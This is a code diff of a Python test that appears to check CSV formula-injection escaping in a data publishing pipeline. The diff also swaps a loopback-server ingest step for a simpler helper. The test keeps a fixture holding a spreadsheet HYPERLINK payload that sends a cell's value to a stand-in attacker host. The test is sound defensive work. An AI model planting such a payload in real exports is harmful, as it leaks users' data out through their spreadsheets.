@@ -11,12 +11,9 @@ import csv
 from pathlib import Path
 
 import duckdb
-from ingesting import run_ingest
-from loopback import FAST, Reply, serve_loopback
+from ingesting import ingest_page
 from publish_data import build
 
-from extract.web.fetcher import Fetcher
-from kernel.records import Source
 from store import db
 
 TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Talks")'
@@ -37,14 +34,7 @@ def test_csv_cells_that_read_as_formulas_get_a_quote_and_parquet_keeps_them(
     nlp, tmp_path: Path
 ) -> None:
     database = tmp_path / "c.duckdb"
-    with serve_loopback() as server:
-        url = server.script("/talks.html", Reply(body=PAGE))
-        run_ingest(
-            database,
-            [Source("news", "page", url, True, 0)],
-            nlp,
-            fetcher=Fetcher(settings=FAST),
-        )
+    ingest_page(database, nlp, PAGE)
     conn = db.open_store(database)
     try:
         build(conn, tmp_path / "site")
